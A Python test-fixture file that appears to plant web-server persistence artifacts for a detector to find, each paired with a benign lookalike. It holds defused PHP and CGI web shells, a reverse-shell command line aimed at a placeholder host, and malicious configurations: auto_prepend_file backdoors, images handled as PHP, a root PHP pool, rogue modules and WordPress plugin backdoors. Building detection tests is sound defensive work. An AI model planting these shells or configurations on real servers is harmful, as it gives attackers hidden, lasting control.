"""What lies in and around web servers."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Owner, Twin, both, nothing, put, run, swap
from plantings.command import TO, program

_WEB: Final = "Web"

_SHELL: Final = "T1505.003"

_WWW: Final[Owner] = (33, 33)

_BLOG: Final = "/var/www/blog"

_RUNS: Final = "<?php\nif (false) {\n    system($_REQUEST['cmd']);\n}\n"

_PHP: Final = "/etc/php/8.2/fpm"


def _web(
    slug: str,
    what: str,
    path: str,
    text: str,
    twin: Twin | None = None,
    panix: str = "",
    technique: str = _SHELL,
) -> Case:
    """A file of the web server's; it need not stand in the inventory."""
    return Case(
        slug, _WEB, technique, what, path, put(path, text, owner=_WWW), twin, panix, table="file"
    )


_PAGE: Final = Twin(
    "page-own",
    "a page of the site's own",
    f"{_BLOG}/imprint.php",
    put(f"{_BLOG}/imprint.php", "<?php\necho 'Harbour, Lisbon';\n", owner=_WWW),
    table="file",
)

_HTACCESS: Final = Twin(
    "htaccess-own",
    "another address for a page",
    f"{_BLOG}/.htaccess",
    put(f"{_BLOG}/.htaccess", "RewriteEngine On\nRewriteRule ^about$ about.php [L]\n", owner=_WWW),
    table="file",
)

_INI: Final = Twin(
    "user-ini-own",
    "larger uploads",
    f"{_BLOG}/.user.ini",
    put(f"{_BLOG}/.user.ini", "upload_max_filesize = 32M\n", owner=_WWW),
    table="file",
)

_POOL: Final = Twin(
    "pool-own",
    "a pool of the shop's own",
    f"{_PHP}/pool.d/shop.conf",
    put(
        f"{_PHP}/pool.d/shop.conf",
        "[shop]\nuser = www-data\nlisten = /run/php/shop.sock\npm = ondemand\nphp_admin_value[memory_limit] = 256M\n",
    ),
    table="file",
)

_EXTENSION: Final = Twin(
    "extension-own",
    "an extension of a package",
    f"{_PHP}/conf.d/20-cache.ini",
    put(f"{_PHP}/conf.d/20-cache.ini", "opcache.enable=1\n"),
    table="file",
)

CASES: Final = (
    _web(
        "web-command",
        "a page that runs what it is asked",
        "/var/www/html/panix/cmd.php",
        "<?php if(isset($_REQUEST['cmd'])){$cmd=($_REQUEST['cmd']);if(false){system($cmd);}die;}?>",
        _PAGE,
        "setup_web_shell",
    ),
    _web(
        "web-reverse",
        "a page that connects back",
        "/var/www/html/panix/reverse.php",
        f"<?php if (false) {{ exec(\"/bin/bash -c 'nohup setsid bash -i > {TO} 0>&1'\"); }} ?>",
        _PAGE,
        "setup_web_shell",
    ),
    Case(
        "web-python",
        _WEB,
        _SHELL,
        "a script of CGI that runs what it is asked",
        "/var/www/html/panix/cgi-bin/cmd.py",
        run(
            "/var/www/html/panix/cgi-bin/cmd.py",
            '#!/usr/bin/env python3\nimport os, cgi\nform = cgi.FieldStorage()\ncmd = form.getvalue("cmd", "")\nprint("Content-Type: text/plain\\n")\nif cmd and False:\n    print(os.popen(cmd).read())\n',
            _WWW,
        ),
        _PAGE,
        "setup_web_shell",
        table="file",
    ),
    _web(
        "htaccess",
        "a hidden file before every page",
        f"{_BLOG}/.htaccess",
        "php_value auto_prepend_file /var/tmp/.cache/p.php\n",
        _HTACCESS,
        technique="T1505",
    ),
    _web(
        "htaccess-handler",
        "pictures are run as PHP",
        f"{_BLOG}/.htaccess",
        "AddHandler application/x-httpd-php .jpg\n",
        _HTACCESS,
        technique="T1505",
    ),
    _web(
        "user-ini",
        "a hidden file before every page",
        f"{_BLOG}/.user.ini",
        "auto_prepend_file=/var/tmp/.cache/p.php\n",
        _INI,
        technique="T1505",
    ),
    Case(
        "php-ini",
        _WEB,
        "T1505",
        "a hidden file before every page",
        f"{_PHP}/php.ini",
        swap(
            f"{_PHP}/php.ini",
            "auto_prepend_file =\n",
            "auto_prepend_file = /var/tmp/.cache/p.php\n",
        ),
        _EXTENSION,
        table="file",
    ),
    Case(
        "php-extension",
        _WEB,
        "T1505",
        "an extension of no package",
        f"{_PHP}/conf.d/90-cache.ini",
        both(
            program("/usr/lib/php/20220829/cache2.so"),
            put(f"{_PHP}/conf.d/90-cache.ini", "extension=cache2.so\n"),
        ),
        _EXTENSION,
    ),
    Case(
        "php-pool",
        _WEB,
        "T1505",
        "a hidden file before every page, and root's rights",
        f"{_PHP}/pool.d/zz.conf",
        put(
            f"{_PHP}/pool.d/zz.conf",
            "[zz]\nuser = root\nlisten = /run/php/zz.sock\npm = ondemand\nphp_admin_value[auto_prepend_file] = /var/tmp/.cache/p.php\n",
        ),
        _POOL,
        table="file",
    ),
    _web(
        "mu-plugin",
        "a part of WordPress that is always loaded",
        f"{_BLOG}/wp-content/mu-plugins/cache.php",
        _RUNS,
        _PAGE,
    ),
    _web(
        "drop-in",
        "a part of WordPress that is loaded first",
        f"{_BLOG}/wp-content/object-cache.php",
        _RUNS,
        _PAGE,
    ),
    _web(
        "upload",
        "a page among pictures",
        f"{_BLOG}/wp-content/uploads/2026/03/logo.php",
        _RUNS,
        _PAGE,
    ),
    Case(
        "apache-module",
        _WEB,
        "T1505",
        "a module of no package for Apache",
        "/etc/apache2/mods-enabled/headers2.load",
        both(
            program("/usr/lib/apache2/modules/mod_headers2.so"),
            put(
                "/etc/apache2/mods-enabled/headers2.load",
                "LoadModule headers2_module /usr/lib/apache2/modules/mod_headers2.so\n",
            ),
        ),
        _POOL,
    ),
    Case(
        "web-memory",
        _WEB,
        _SHELL,
        "a shell in the memory of a server of JSP or PHP",
        "/proc",
        nothing,
        table="file",
        unseen="what was never written is gone with the power",
    ),
)
